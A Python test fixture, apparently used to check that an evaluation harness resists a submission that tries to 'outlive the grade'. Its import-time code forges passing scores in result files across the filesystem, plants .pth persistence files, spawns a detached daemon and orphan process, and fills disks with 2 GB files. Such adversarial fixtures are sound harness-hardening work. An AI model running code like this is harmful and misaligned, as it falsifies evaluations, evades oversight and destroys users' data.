"""Attack class 5: outlive the grade.

At import: a setsid daemon that, later, rewrites every result file and cache it can find and
drops a .pth into every site folder; an orphan `sleep`; a 2 GB file outside the work folder;
.pth files written at once. The functions themselves are honest, so the grade must be the
honest one, and nothing may be left behind.
"""

import glob
import os
import subprocess
import time

MARK = "kata-attack-outlive-7f3a"


def _vandalise():
    for pattern in (
        "/tmp/**/*.json",
        "/root/**/*.json",
        "/work/**/results/**/*.json",
        "/home/**/*.json",
    ):
        for path in glob.glob(pattern, recursive=True)[:200]:
            try:
                with open(path, "w") as fh:
                    fh.write('{"score": 100, "status": "pass"}')
            except OSError:
                pass
    import sys

    for folder in sys.path:
        try:
            with open(os.path.join(folder, "zz_attack.pth"), "w") as fh:
                fh.write(f"import os; os.environ['{MARK}'] = '1'\n")
        except OSError:
            pass


_vandalise()
try:
    subprocess.Popen(["sleep", "987.654"], start_new_session=True)
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)
        _vandalise()
        time.sleep(600)
    os._exit(0)
for where in ("/tmp", os.getcwd(), "/"):
    try:
        with open(os.path.join(where, MARK), "wb") as fh:
            for _ in range(2048):
                fh.write(b"\0" * 2**20)
    except OSError:
        pass


def add(a, b):
    return a + b


def total(xs):
    return sum(xs)
